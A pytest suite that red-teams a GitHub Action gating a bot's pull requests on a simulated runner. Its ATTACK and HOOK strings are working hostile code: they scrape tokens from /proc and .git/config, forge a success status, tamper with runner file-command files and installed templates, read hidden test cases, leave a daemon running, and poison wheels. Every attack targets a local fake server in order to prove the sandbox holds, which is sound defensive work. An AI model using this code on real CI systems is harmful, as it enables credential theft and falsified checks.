"""The Action as users deploy it, attacked on a simulated GitHub-hosted runner (tests/runner_support.py).

A bot's PR whose code fails its cases tries every way out that a step of the job offers: a `gate/` package, a
`sitecustomize.py` and a `pip/` in the checkout for the Action's own steps to import, the token in
/proc/<pid>/environ and .git/config, the network (a forged success status), the runner's file-command files,
the hidden cases in the workspace's .git, the gate's installed templates, and a daemon left to outlive the
gate. The same attacks run once on a runner with passwordless sudo (the Action's path: the gate runs as root,
the code as a sandbox user) and once as `runner` without privileges, where the gate must fail closed.
"""

from __future__ import annotations

import hashlib
import json
import os
import pwd
import shutil
import stat
import subprocess
import tempfile
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from gate import __version__
from tests.fakegithub import FakeGitHub, serve, webhook
from tests.fakegithub.scenario import REPO, Scenario, git, newest, stacked
from tests.redteam_support import HIDDEN, HIDDEN_PATH, HIDDEN_VALUES, POLICY, marked_processes, new_marker
from tests.runner_support import (
    RUNNER_WORK,
    Job,
    Machine,
    StepRun,
    as_runner_alone,
    chown_tree,
    has_sudo,
    install,
    readme_workflows,
    run_workflow,
    session_machine,
    work_dir,
    workflows_in_full,
)

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(os.geteuid() != 0 or not has_sudo(),
                                 reason="simulating the runner needs root (useradd, sudoers) and sudo")]

HONEST = "def add(a, b):\n    return a + b\n"
# Files of the head that run if anything of the Action imports or executes the checkout: each leaves a file.
PLANTED = {
    "gate/__init__.py": "", "gate/__main__.py": "{mark}", "sitecustomize.py": "{mark}",
    "usercustomize.py": "{mark}", "pip/__init__.py": "{mark}", "pip/__main__.py": "{mark}",
    "uv/__init__.py": "{mark}", "gate-pwn.pth": "import os; {mark}",
}
MARK = "open({path!r} + '-' + __name__, 'w').write('ran')"

# add(a, b): everything a step's process could try, reported in what it returns for the public case.
ATTACK = '''\
import json, os, re, socket, subprocess, sys, urllib.request

ROOT, MARKER, API, TOKEN_PREFIX = {root!r}, {marker!r}, {api!r}, "ghs_"
WORKSPACE, TEMP, GATE = {workspace!r}, {temp!r}, {gate!r}


def _try(what, action):  # "what:result", or "what:x" when it was refused (the case detail is short)
    try:
        return f"{{what}}:" + str(action())
    except BaseException:
        return f"{{what}}:x"


def _read(path):
    with open(path, "rb") as handle:
        return handle.read().decode(errors="replace")


def _token():
    texts = [repr(dict(os.environ))]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for leak in ("environ", "cmdline", "cwd/.git/config"):
                try:
                    texts.append(_read(f"/proc/{{pid}}/{{leak}}"))
                except OSError:
                    pass
    for path in [os.path.join(WORKSPACE, ".git/config"), *[os.path.join(TEMP, n) for n in _names(TEMP)]]:
        try:
            texts.append(_read(path))
        except OSError:
            pass
    found = [m for t in texts for m in re.findall(TOKEN_PREFIX + "[A-Za-z0-9_]+", t)]
    return found[0] if found else ""


def _names(place):
    try:
        return os.listdir(place)
    except OSError:
        return []


def _post(token):
    headers = {{"Authorization": f"token {{token}}", "Content-Type": "application/json"}}
    pull = urllib.request.urlopen(urllib.request.Request(f"{{API}}/repos/octo/app/pulls/12", headers=headers),
                                  timeout=3)
    head = json.load(pull)["head"]["sha"]
    body = json.dumps({{"state": "success", "context": "gate", "description": "accepted"}}).encode()
    request = urllib.request.Request(f"{{API}}/repos/octo/app/statuses/{{head}}", data=body, method="POST",
                                     headers=headers)
    return urllib.request.urlopen(request, timeout=3).status


def _append():
    for name in ["GITHUB_ENV", "GITHUB_PATH", *_names(TEMP)]:
        with open(os.path.join(TEMP, name), "a") as handle:
            handle.write("PWNED=1\\n" if name != "GITHUB_PATH" else "/pwned\\n")
    return "written"


def _templates():
    for name in ("report/templates/comment.md.j2", "report/templates/summary.md.j2", "__init__.py"):
        with open(os.path.join(GATE, name), "a") as handle:
            handle.write("ACCEPTED")
    return "rewritten"


def _hidden():
    shown = subprocess.run(["git", "-C", WORKSPACE, "log", "-p", "--all"], capture_output=True, text=True,
                           timeout=5).stdout
    return re.findall(r"expect: (\\d+)", shown)


def _daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            quiet = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(quiet, fd)
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", MARKER])
        os._exit(0)
    return "started"


def add(a, b):
    _try("ran", lambda: open(os.path.join(ROOT, "candidate-ran"), "w").close())
    token = _token()
    stolen = _try("hidden", _hidden)
    if (a, b) != (2, 3):  # the hidden case: its expected value, if .git gave it away
        values = re.findall(r"\\d+", stolen)
        return int(values[-1]) if values else a - b
    return ";".join([f"token:{{token or 'none'}}", _try("net", lambda: _post(token)),
                     _try("conn", lambda: socket.create_connection(("127.0.0.1", 1), timeout=1)),
                     _try("files", _append), _try("tpl", _templates), stolen, _try("fork", _daemon)])
'''


@pytest.fixture(scope="session")
def machine() -> Machine:
    """The runner machine, with the gate installed by the Action's own install step, run as `runner` once
    with sudo (into a root-owned directory) and once without, from a checkout that plants files for the
    install to import (it must import none of them). One for the test session, its xdist workers included."""
    return session_machine(install_both)


def install_both(built: Machine) -> None:
    for privileged in (True, False):
        root = work_dir()
        env = step_env(built, root)
        try:
            run = install(built, env, privileged)
            assert run.code == 0, run.stderr
            assert not list(root.glob("pwned-*")), list(root.glob("pwned-*"))
        finally:
            shutil.rmtree(root)


def step_env(machine: Machine, root: Path) -> dict[str, str]:
    """A job's environment for the install step alone, its checkout planting files for the step to import."""
    (root / "workspace").mkdir()
    (root / "temp").mkdir()
    plant(root / "workspace", root)
    chown_tree(root, machine.user)
    return {"GITHUB_WORKSPACE": str(root / "workspace"), "RUNNER_TEMP": str(root / "temp"),
            "GITHUB_TOKEN": "ghs_" + "0" * 36}


def plant(workspace: Path, root: Path) -> None:
    for name, text in PLANTED.items():
        path = workspace / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text.format(mark=MARK.format(path=str(root / "pwned"))) + "\n")
    (workspace / "uv.toml").write_text('index-url = "http://127.0.0.1:1/simple"\n')


@dataclass
class Attack:
    """One attacked job: the PR, its runner files, the job's steps, and what the gate left."""

    pr: Scenario
    root: Path
    job: Job
    last: StepRun
    marker: str
    installed_before: dict[str, str]

    def file(self, name: str) -> str:
        return Path(self.job.env[name]).read_text(errors="replace")

    def texts(self) -> str:
        """Everything the job left that a later step, the log or the PR shows."""
        repo = self.pr.fake.repos[REPO]
        steps = "".join(r.stdout + r.stderr for r in self.job.runs)
        temp = Path(self.job.env["RUNNER_TEMP"])
        files = "".join(p.read_text(errors="replace") for p in temp.iterdir() if p.is_file())
        return steps + files + json.dumps([repo.comments, repo.check_runs, repo.statuses])


def installed(machine: Machine, privileged: bool) -> dict[str, str]:
    python = Path(machine.installs[privileged]["python"])
    venv = python.parent.parent
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(venv.rglob("*"))
            if p.is_file() and not p.is_symlink()}


def prepare_attack(fake: FakeGitHub, machine: Machine, privileged: bool, root: Path) -> Attack:
    """The attacker's PR checked out in a job directory of the runner, with the runner's files."""
    marker = new_marker()
    workspace, temp = root / "workspace", root / "runner"
    site = Path(machine.installs[privileged]["python"]).parent.parent
    code = ATTACK.format(root=str(root), marker=marker, api=fake.url, workspace=str(workspace), temp=str(temp),
                         gate=str(next(site.glob("lib/python*/site-packages/gate"))))
    head: dict[str, str | None] = {"calc.py": code, **{name: text.format(mark=MARK.format(path=str(root / "pwned")))
                                for name, text in PLANTED.items()}}
    pr = Scenario(fake, root, {".github/gate.yml": POLICY, HIDDEN_PATH: HIDDEN, "calc.py": HONEST}, head)
    # What actions/checkout leaves without `persist-credentials: false`: the token in .git/config.
    git(pr.workspace, "config", "http.https://github.com/.extraheader", f"AUTHORIZATION: basic {fake.token}")
    env = pr.environment()
    for name in ("GITHUB_ENV", "GITHUB_PATH"):
        (pr.runner / name).touch()
        env[name] = str(pr.runner / name)
    chown_tree(root, machine.user)
    job = Job(machine, env, {}, privileged=privileged)
    return Attack(pr, root, job, StepRun("none", 0, "", ""), marker, installed(machine, privileged))


# The tests of one attacked job share one xdist worker under `--dist loadgroup` (.ci/run), so that each job
# runs once rather than once on every worker.
ATTACKED = pytest.mark.xdist_group("runner-attacked")


@pytest.fixture(scope="module", params=[True, False], ids=["sudo-root", "runner-unprivileged"])
def attacked(request: pytest.FixtureRequest, machine: Machine) -> Iterator[Attack]:
    """One attacked job per runner kind, which the tests below look at from every side."""
    with serve() as fake:
        run = prepare_attack(fake, machine, request.param, work_dir())
        run.last = run.job.run()
        yield run
    for pid in marked_processes(run.marker):  # only if a test failed: leave nothing of it behind
        os.kill(pid, 9)
    shutil.rmtree(run.root, ignore_errors=True)


@ATTACKED
def test_the_head_gets_no_success_and_no_status_is_left_pending(attacked: Attack) -> None:
    repo = attacked.pr.fake.repos[REPO]
    assert attacked.last.code == (1 if attacked.job.privileged else 3), attacked.last.stderr
    assert [(s["sha"], s["state"], s["context"]) for s in repo.statuses] == [
        (attacked.pr.head_sha, "failure", "gate")]
    assert [(r["head_sha"], r["conclusion"]) for r in repo.check_runs.values()] == [
        (attacked.pr.head_sha, "failure")]
    assert attacked.job.outputs()["accepted"] in ("false", "")


@ATTACKED
def test_no_token_reaches_anything_the_code_can_read_or_send(attacked: Attack) -> None:
    texts = attacked.texts()
    assert attacked.pr.fake.token not in texts
    verdict_path = attacked.job.outputs()["verdict"]
    if verdict_path:
        assert attacked.pr.fake.token not in Path(verdict_path).read_text()


@ATTACKED
def test_nothing_the_code_wrote_reaches_the_runners_file_commands(attacked: Attack) -> None:
    assert attacked.file("GITHUB_ENV") == "" and attacked.file("GITHUB_PATH") == ""
    assert "PWNED" not in attacked.file("GITHUB_STEP_SUMMARY")
    assert "PWNED" not in attacked.texts()


@ATTACKED
def test_the_gates_installation_and_the_hidden_cases_stay_out_of_reach(attacked: Attack) -> None:
    assert installed(attacked.job.machine, attacked.job.privileged) == attacked.installed_before
    assert not list(attacked.root.glob("pwned-*"))  # the Action imported nothing of the checkout
    texts = attacked.texts()
    assert not any(value in texts for value in HIDDEN_VALUES)


@ATTACKED
def test_nothing_of_the_code_is_alive_after_the_gate_exits(attacked: Attack) -> None:
    assert marked_processes(attacked.marker) == []


@ATTACKED
def test_the_log_says_which_gate_scored_the_pr_and_shows_no_refusal_as_an_error(attacked: Attack) -> None:
    log = "".join(r.stdout + r.stderr for r in attacked.job.runs)
    assert f"gate {__version__}\n" in log  # the Action's version, before the verdict
    assert "failed with 403" not in log  # the Actions token's refused GET /user is expected, not an error


@ATTACKED
def test_with_sudo_the_cases_ran_as_a_sandbox_user_and_failed(attacked: Attack) -> None:
    if not attacked.job.privileged:
        pytest.skip("the unprivileged runner runs no case")
    verdict = json.loads(Path(attacked.job.outputs()["verdict"]).read_text())
    cases = {c["name"]: c for c in verdict["cases"]}
    assert cases["adds"]["status"] == "failed" and cases["hidden case 1"]["status"] == "failed"
    report = cases["adds"]["detail"]
    for blocked in ("token:none", "net:x", "conn:x", "files:x", "tpl:x"):
        assert blocked in report, report
    assert "hidden:x" in report or "hidden:[]" in report, report  # no git in the run, or no .git to read
    assert dict(verdict["facts"])["files from"] == "checkout"  # root's git read the runner's checkout
    isolation = dict(verdict["isolation"])
    assert isolation["uid"].startswith("uid ") and isolation["netns"].startswith("on")


@ATTACKED
def test_without_privileges_the_gate_fails_closed_before_running_any_code(attacked: Attack) -> None:
    if attacked.job.privileged:
        pytest.skip("the privileged runner runs the cases")
    assert not (attacked.root / "candidate-ran").exists()
    repo = attacked.pr.fake.repos[REPO]
    [run] = repo.check_runs.values()
    summary = run["output"]["summary"]
    assert "required isolation layer(s) not available here: uid" in summary
    assert "sudo" in summary and "allow_weaker_isolation" in summary
    assert "gate failed: required isolation" in repo.statuses[0]["description"]
    assert "required isolation layer(s)" in attacked.file("GITHUB_STEP_SUMMARY")


def test_the_privileged_install_belongs_to_root_and_no_one_else_can_write_it(machine: Machine) -> None:
    venv = Path(machine.installs[True]["python"]).parent.parent
    assert machine.installs[True]["privileged"] == "true" and machine.installs[False]["privileged"] == "false"
    for path in (venv.parent, *venv.rglob("*")):
        info = path.lstat()
        if stat.S_ISLNK(info.st_mode):
            continue
        assert info.st_uid == 0 and not info.st_mode & 0o022, path
    assert (venv.parent / "uv" / "bin" / "uv").is_file()
    # The uv the gate builds a repository's environment with: beside its interpreter, root's.
    assert (venv / "bin" / "uv").resolve() == (venv.parent / "uv" / "bin" / "uv").resolve()
    assert str(RUNNER_WORK) not in str(venv)
    # On a copy of setup-python's interpreter that root owns (the gate step runs it as root); without
    # privileges, on setup-python's own.
    python = Path(machine.installs[True]["python"]).resolve()
    assert python.is_relative_to(machine.home / "python") and python.name == "python3.11", python
    assert Path(machine.installs[False]["python"]).resolve() == Path(machine.setup_python).resolve()


def test_the_attacks_get_through_when_nothing_stops_them(fake: FakeGitHub, machine: Machine) -> None:
    """The control: the same code, run as `runner` beside a process of the gate step's (the token in its
    environment), finds the token, posts a success for the head, writes GITHUB_ENV and leaves its daemon."""
    root = work_dir()
    run = prepare_attack(fake, machine, True, root)
    with as_runner_alone():  # (its daemon runs as `runner` until the end)
        try:
            step = subprocess.Popen(["sleep", "60"], env={"GITHUB_TOKEN": fake.token}, user=machine.user.pw_uid)
            try:
                done = subprocess.run([machine.setup_python, "-c", "import calc; print(calc.add(2, 3))"],
                                      capture_output=True, text=True, cwd=run.pr.workspace,
                                      user=machine.user.pw_uid, env={"PATH": "/usr/bin"})
            finally:
                step.kill()
                step.wait()
            # What `python -m gate` / `python -m pip` from the checkout did before: they ran the head's packages.
            for module in ("gate", "pip"):
                subprocess.run([machine.setup_python, "-m", module, "--version"], cwd=run.pr.workspace,
                               capture_output=True, user=machine.user.pw_uid, env={"PATH": "/usr/bin"})
            assert {p.name for p in root.glob("pwned-*")} >= {"pwned-__main__"}
            assert f"token:{fake.token}" in done.stdout and "net:201" in done.stdout, done.stdout + done.stderr
            assert "PWNED=1" in run.file("GITHUB_ENV") and "/pwned" in run.file("GITHUB_PATH")
            assert [s["state"] for s in fake.repos[REPO].statuses] == ["success"]
            assert marked_processes(run.marker)
        finally:
            for pid in marked_processes(run.marker):
                os.kill(pid, 9)
            shutil.rmtree(root, ignore_errors=True)


@pytest.mark.parametrize("comment", ["true", "false"])
def test_the_actions_inputs_and_outputs_on_a_runner(fake: FakeGitHub, machine: Machine, comment: str) -> None:
    root = work_dir()
    try:
        pr = Scenario(fake, root, {".github/gate.yml": "budget: 3\n", "app.py": "x = 1\n"},
                      {"util.py": "def f(:\n"})
        chown_tree(root, machine.user)
        job = Job(machine, pr.environment(), {"check-name": "bot gate", "comment": comment})
        last = job.run()
        assert last.code == 1, last.stderr  # blocked: the step fails, as a required check should
        outputs = job.outputs()
        assert outputs["accepted"] == "false" and outputs["total"] == "5" and outputs["budget"] == "3"
        assert json.loads(Path(outputs["verdict"]).read_text())["accepted"] is False
        repo = fake.repos[REPO]
        assert [(s["context"], s["sha"], s["state"]) for s in repo.statuses] == [
            ("bot gate", pr.head_sha, "failure")]
        assert [r["name"] for r in repo.check_runs.values()] == ["bot gate"]
        comments = repo.comments.get(pr.number, [])
        assert [c["user"]["login"] for c in comments] == (["github-actions[bot]"] if comment == "true" else [])
        assert "util.py" in pr.summary()
    finally:
        shutil.rmtree(root, ignore_errors=True)


def test_a_second_pr_with_the_same_head_into_the_bots_own_branch_leaves_mains_check_blocked(
        fake: FakeGitHub, machine: Machine) -> None:
    """On the runner, as the README's workflow runs it: the bot's PR #7 into main is blocked; its PR #8 with the
    same head, into the branch it pushed at its own policy rewrite (`budget: 1000`), passes under that policy,
    and the newest `gate` status and check run on the head, which main's protection reads, stay failures."""
    root = work_dir()
    try:
        pr, event = stacked(fake, root, {".github/gate.yml": "budget: 1000\n"}, {"util.py": "def f(:\n"})
        chown_tree(root, machine.user)
        assert Job(machine, pr.environment(), {}).run().code == 1
        eight = Job(machine, pr.environment(event=event), {}).run()
        assert eight.code == 0, eight.stderr
        assert newest(fake, pr.head_sha, "gate") == ("failure", "failure")
        assert newest(fake, pr.head_sha, "gate (into bot/parent)") == ("success", "success")
    finally:
        shutil.rmtree(root, ignore_errors=True)


def test_a_second_install_from_the_same_source_and_interpreter_reuses_the_first(machine: Machine) -> None:
    before = installed(machine, True)
    root = work_dir()
    try:
        run = install(machine, step_env(machine, root), True)
        assert run.code == 0, run.stderr
        assert f"gate: reusing {machine.home} " in run.stdout
        assert installed(machine, True) == before
        assert not list(root.glob("pwned-*"))
    finally:
        shutil.rmtree(root)


@pytest.mark.parametrize("change", ["runner-owned-template", "writable-template", "other-source"])
def test_an_installation_that_others_could_write_or_built_from_other_inputs_is_rebuilt(
        machine: Machine, change: str) -> None:
    """A copy of the session's installation, with a template the runner rewrote and owns, or one that anyone
    can write (what a job could leave if it ever could write there), or recorded as built from other inputs:
    the step builds it anew. The install reads an empty index, so the step removes the installation and fails
    at its first download: nothing of it is left to reuse. (Each session install shows what a build makes.)"""
    home = Path(str(machine.home) + f"-{change}")
    subprocess.run(["cp", "-a", str(machine.home), str(home)], check=True)
    [template] = home.glob("venv/lib/python*/site-packages/gate/report/templates/comment.md.j2")
    if change == "runner-owned-template":
        template.write_text("ACCEPTED")
        os.chown(template, machine.user.pw_uid, machine.user.pw_gid)
    elif change == "writable-template":
        template.write_text("ACCEPTED")
        template.chmod(0o666)
    else:
        (home / "stamp").write_text("0" * 64 + "\n")
    root = work_dir()
    empty = Path(tempfile.mkdtemp(dir=machine.session))
    try:
        run = install(machine, step_env(machine, root), True, home=home, index=empty)
        assert "reusing" not in run.stdout
        assert run.code != 0 and not template.exists() and not (home / "stamp").exists(), run.stderr
    finally:
        shutil.rmtree(root)
        shutil.rmtree(home, ignore_errors=True)
        empty.rmdir()


def poison(wheel: Path, module: str, marker: Path) -> None:
    """Rewrite `wheel` in place with code in `module` that leaves `marker`, keeping its name and RECORD."""
    original = wheel.with_suffix(".orig")
    wheel.rename(original)
    with zipfile.ZipFile(original) as source, zipfile.ZipFile(wheel, "w") as target:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == module:
                data += f"\nopen({str(marker)!r}, 'w').write('ran')\n".encode()
            target.writestr(member, data)
    original.unlink()


@pytest.mark.parametrize(("dist", "module"), [("uv", "uv/__init__.py"), ("jinja2", "jinja2/__init__.py"),
                                              ("setuptools", "setuptools/__init__.py")],
                         ids=["uv-by-pip", "dependency-by-uv", "build-backend-by-uv"])
def test_a_wheel_the_lock_files_do_not_hash_is_refused_and_nothing_is_installed(
        machine: Machine, dist: str, module: str) -> None:
    """An index or mirror that serves a changed wheel (same name and version): the install fails on its hash
    before anything of it runs or lands in the gate's installation, and nothing is left to be reused."""
    index, home = machine.session / f"poisoned-{dist}", machine.session / f"opt-gate-poisoned-{dist}"
    shutil.copytree(machine.session / "wheels", index)
    root = work_dir()
    try:
        [wheel] = index.glob(f"{dist}-*.whl")
        poison(wheel, module, root / "pwned-wheel")
        run = install(machine, step_env(machine, root), True, index=index, home=home)
        assert run.code != 0
        assert "hash" in run.stderr.lower(), run.stderr
        assert not list(root.glob("pwned-*"))
        assert not (home / "stamp").exists()
        assert not list(home.glob(f"venv/lib/python*/site-packages/{dist}"))
    finally:
        shutil.rmtree(root)
        shutil.rmtree(index)
        shutil.rmtree(home, ignore_errors=True)


def test_on_a_runner_an_override_covers_its_head_and_not_an_older_head_pushed_back(
        fake: FakeGitHub, machine: Machine) -> None:
    """The Action's steps on each event of an override's story: blocked H, pushed H2 (blocked), a maintainer
    overrides H2 (the `issue_comment` run), the bot force-pushes H again: H is blocked."""
    root = work_dir()
    try:
        pr = Scenario(fake, root, {".github/gate.yml": "budget: 3\n", "app.py": "x = 1\n"},
                      {"util.py": "def f(:\n"})
        fake.set_permission(REPO, "maria", "write")

        def job(event: dict[str, object] | None = None, name: str | None = None) -> StepRun:
            env = pr.environment(event=event, event_name=name)
            chown_tree(root, machine.user)
            return Job(machine, env, {}).run()

        assert job().code == 1
        first = pr.head_sha
        chown_tree(root, pwd.getpwuid(0))  # git, as root, refuses a repository another user owns
        pr.push({"util.py": "def f(:\n# still broken\n"})
        assert job(pr.event("synchronize")).code == 1
        answered = job(pr.comment("/gate override checked by hand", "maria"), "issue_comment")
        assert answered.code == 0, answered.stderr
        chown_tree(root, pwd.getpwuid(0))
        pr.force_push(first)
        assert job(pr.event("synchronize")).code == 1
        repo = fake.repos[REPO]
        runs = [(r["head_sha"] == first, r["conclusion"]) for r in repo.check_runs.values()]
        assert runs == [(True, "failure"), (False, "failure"), (False, "neutral"), (True, "failure")]
        assert repo.statuses[-1]["state"] == "failure"
    finally:
        shutil.rmtree(root, ignore_errors=True)


# Run by site at the interpreter's start-up wherever it is planted: it records who ran it and whether it saw
# the token, and with a token posts a success for the PR's head.
HOOK = '''\
import json, os, urllib.request
try:
    token = os.environ.get("GITHUB_TOKEN", "")
    with open({root!r} + f"/hook-{{os.getuid()}}-{{os.getpid()}}", "w") as record:
        record.write(token or "none")
    if token:
        headers = {{"Authorization": f"token {{token}}", "Content-Type": "application/json"}}
        pull = urllib.request.urlopen(urllib.request.Request({api!r} + "/repos/octo/app/pulls/12",
                                                             headers=headers), timeout=3)
        body = json.dumps({{"state": "success", "context": "gate", "description": "hook"}}).encode()
        urllib.request.urlopen(urllib.request.Request(
            {api!r} + "/repos/octo/app/statuses/" + json.load(pull)["head"]["sha"], data=body, method="POST",
            headers=headers), timeout=3)
except Exception:
    pass
'''


def test_site_hooks_the_runner_left_in_setup_pythons_interpreter_never_run_as_root(
        fake: FakeGitHub, machine: Machine) -> None:
    """setup-python's interpreter is the runner's to write (a restored cache, an earlier job): a sitecustomize
    and a usercustomize in its library and a .pth in its site directory, planted by the runner, run as the
    runner (the install step's own use of it) but never as root, in neither step; the token is never read and
    nothing is posted but the gate's own failure."""
    root = work_dir()
    home = machine.session / f"opt-gate-hooked-{root.name}"
    try:
        prefix = root / "toolcache" / "Python" / "3.11" / "x64"
        shutil.copytree(Path(machine.setup_python).parent.parent, prefix, symlinks=True)
        [library] = prefix.glob("lib/python3.*")
        hook = HOOK.format(root=str(root), api=fake.url)
        for planted in ("sitecustomize.py", "usercustomize.py"):
            (library / planted).write_text(hook)
        (library / "dist-packages" / "gate-hook.pth").write_text(f"import os; exec({hook!r})\n")
        pr = Scenario(fake, root / "job", {".github/gate.yml": POLICY, "calc.py": HONEST},
                      {"calc.py": "def add(a, b):\n    return a - b\n"})
        chown_tree(root, machine.user)
        job = Job(machine, pr.environment(), {}, privileged=True, home=home, setup_python=str(prefix / "bin/python3"))
        last = job.run(install=True)
        assert last.code == 1, last.stdout + last.stderr
        ran = sorted((path.name.split("-")[1], path.read_text()) for path in root.glob("hook-*"))
        assert ran, "the control: the hooks are live, for the runner's own use of its interpreter"
        assert {uid for uid, _ in ran} == {str(machine.user.pw_uid)}, ran
        assert {seen for _, seen in ran} == {"none"}, ran
        repo = fake.repos[REPO]
        assert [(s["state"], s["description"]) for s in repo.statuses][-1][0] == "failure"
        assert all(s["description"] != "hook" for s in repo.statuses), repo.statuses
        assert "left out of the copied interpreter" in job.runs[0].stderr
        copied = Path(job.context["steps.install.outputs.python"]).resolve()
        assert copied.is_relative_to(home) and not list(copied.parent.parent.glob("lib/*/sitecustomize*"))
    finally:
        shutil.rmtree(root, ignore_errors=True)
        shutil.rmtree(home, ignore_errors=True)


# ----- the README's workflows, as a maintainer pastes them, calling this repository's reusable ones ----------
PINNED_SHA = "5" * 40  # the release commit a maintainer pins (it stands for this tree)


def pasted(index: int) -> str:
    """The README's workflow `index` (0: the gate, 1: the publish), verbatim, with a release's SHA put in."""
    return readme_workflows()[index].replace("COMMIT_SHA", PINNED_SHA)


def in_full(index: int) -> str:
    """docs/github.md's workflow in full `index`, verbatim, with a release's SHA put in."""
    return workflows_in_full()[index].replace("COMMIT_SHA", PINNED_SHA)


@pytest.mark.parametrize("form", ["readme", "in-full"])
def test_the_readmes_workflow_gates_a_bots_pr_on_a_runner(fake: FakeGitHub, machine: Machine, form: str) -> None:
    """The README's twenty lines (and the form in full of docs/github.md): the called job runs, checks out the
    PR's head with history and the gate at the pinned commit, gates the PR (blocked: a failure check run `gate`
    on the head, the comment), keeps the verdict as the artifact, and gives the caller its outputs."""
    root = work_dir()
    try:
        pr = Scenario(fake, root, {".github/gate.yml": "budget: 3\n", "app.py": "x = 1\n"},
                      {"util.py": "def f(:\n"})
        chown_tree(root, machine.user)
        run = run_workflow(machine, pasted(0) if form == "readme" else in_full(0), pr.environment())
        assert not run.skipped and run.status == "failure", run.steps  # blocked: the job fails
        assert run.concurrency == "gate-score-12"
        pr_checkout, *gate_checkout = run.checkouts
        assert pr_checkout["ref"] == pr.head_sha and pr_checkout["fetch-depth"] == 0
        if form == "readme":
            assert gate_checkout == [{"repository": "error-budget-gate/gate", "ref": PINNED_SHA, "path": ".gate",
                                      "persist-credentials": False}]
            assert run.outputs == {"accepted": "false", "total": "5", "budget": "3"}
        checkouts = [outcome for name, outcome in run.steps if "checkout" in name or "Check out" in name]
        assert checkouts == ["success"] * len(run.checkouts) and checkouts
        repo = fake.repos[REPO]
        assert [(s["context"], s["sha"], s["state"]) for s in repo.statuses] == [("gate", pr.head_sha, "failure")]
        assert [(r["name"], r["conclusion"]) for r in repo.check_runs.values()] == [("gate", "failure")]
        assert len(repo.comments[pr.number]) == 1
        assert json.loads(run.artifacts["gate-verdict"].read_text())["accepted"] is False
        assert not list(root.glob("pwned-*"))
    finally:
        shutil.rmtree(root, ignore_errors=True)


def test_on_a_comment_only_a_prs_gate_command_starts_the_job_and_nothing_of_the_pr_is_checked_out(
        fake: FakeGitHub, machine: Machine) -> None:
    root = work_dir()
    try:
        pr = Scenario(fake, root, {".github/gate.yml": "budget: 3\n", "app.py": "x = 1\n"},
                      {"util.py": "def f(:\n"})
        fake.set_permission(REPO, "maria", "write")
        chown_tree(root, machine.user)
        assert run_workflow(machine, pasted(0), pr.environment()).status == "failure"
        writes = len(fake.writes())
        chatter = run_workflow(machine, pasted(0), pr.environment(event=pr.comment("thanks!", "maria"),
                                                                   event_name="issue_comment"))
        assert chatter.skipped and chatter.steps == [] and len(fake.writes()) == writes  # no runner started
        override = run_workflow(machine, pasted(0), pr.environment(
            event=pr.comment(f"/gate override {pr.head_sha[:12]} checked by hand", "maria"),
            event_name="issue_comment"))
        assert override.status == "success" and override.concurrency == "gate-override-12"
        assert ("Check out the PR's head (or the merge group's commit), with history", "skipped") in override.steps
        assert [r["conclusion"] for r in fake.repos[REPO].check_runs.values()] == ["failure", "neutral"]
    finally:
        shutil.rmtree(root, ignore_errors=True)


def test_a_pr_gated_by_hand_from_the_readmes_workflow_dispatch(fake: FakeGitHub, machine: Machine) -> None:
    root = work_dir()
    try:
        pr = Scenario(fake, root, {".github/gate.yml": "budget: 3\n", "app.py": "x = 1\n"},
                      {"util.py": "def f(:\n"}, event_name="workflow_dispatch")
        git(pr.workspace, "update-ref", f"refs/pull/{pr.number}/head", pr.head_sha)  # what GitHub serves
        chown_tree(root, machine.user)
        run = run_workflow(machine, pasted(0), pr.environment())
        assert run.concurrency == "gate-score-12" and run.checkouts[0]["ref"] == "refs/pull/12/head"
        assert run.status == "failure"
        assert [(s["sha"], s["state"]) for s in fake.repos[REPO].statuses] == [(pr.head_sha, "failure")]
    finally:
        shutil.rmtree(root, ignore_errors=True)


def test_a_fork_prs_verdict_is_posted_by_the_readmes_publish_workflow(fake: FakeGitHub, machine: Machine) -> None:
    """A fork's PR: the gate's run has a read-only token, posts nothing and keeps the artifact; the README's
    publish workflow (triggered by that run's completion) installs the gate at the pinned commit from the lock
    files, reads the artifact as untrusted data and posts the verdict it recomputed."""
    root = work_dir()
    try:
        pr = Scenario(fake, root, {".github/gate.yml": "budget: 3\n", "app.py": "x = 1\n"},
                      {"util.py": "def f(:\n"}, fork=True)
        chown_tree(root, machine.user)
        scored = run_workflow(machine, pasted(0), pr.environment())
        assert scored.status == "failure" and fake.writes() == []
        completed = webhook("workflow_run.completed")
        completed["workflow_run"].update(head_sha=pr.head_sha, pull_requests=[], event="pull_request",
                                         head_branch=pr.branch)
        completed["workflow_run"]["head_repository"]["full_name"] = "forker/app"
        completed["repository"].update(full_name=REPO, default_branch="main")
        env = pr.environment(workspace=False, event=completed, event_name="workflow_run")
        Path(env["GITHUB_WORKSPACE"]).mkdir()
        chown_tree(root, machine.user)
        published = run_workflow(machine, pasted(1), env, artifacts=scored.artifacts)
        assert [outcome for _, outcome in published.steps] == [
            "skipped", "success", "success", "success", "success", "failure"], published.runs[-1].stderr
        assert published.runs[-1].code == 1  # `gate publish`: blocked
        assert published.concurrency == "gate-publish-forker/app-bot/patch"
        assert published.checkouts == [{"repository": "error-budget-gate/gate", "ref": PINNED_SHA,
                                        "path": "gate-source", "persist-credentials": False}]
        repo = fake.repos[REPO]
        assert [(s["context"], s["sha"], s["state"]) for s in repo.statuses] == [("gate", pr.head_sha, "failure")]
        [comment] = repo.comments[pr.number]
        assert "recomputed" in comment["body"]
        # A run of the publish workflow for a PR of the repository's own branch does nothing.
        completed["workflow_run"]["head_repository"]["full_name"] = REPO
        own = run_workflow(machine, pasted(1), pr.environment(workspace=False, event=completed,
                                                              event_name="workflow_run"))
        assert own.skipped
    finally:
        shutil.rmtree(root, ignore_errors=True)


@pytest.mark.parametrize("dropped", ["checks: write", "statuses: write", "pull-requests: write"])
def test_a_caller_that_grants_less_than_the_job_asks_for_never_starts_it(fake: FakeGitHub, machine: Machine,
                                                                        dropped: str) -> None:
    root = work_dir()
    try:
        pr = Scenario(fake, root, {"app.py": "x = 1\n"}, {"util.py": "def f(:\n"})
        text = pasted(0)
        assert f"      {dropped}" in text
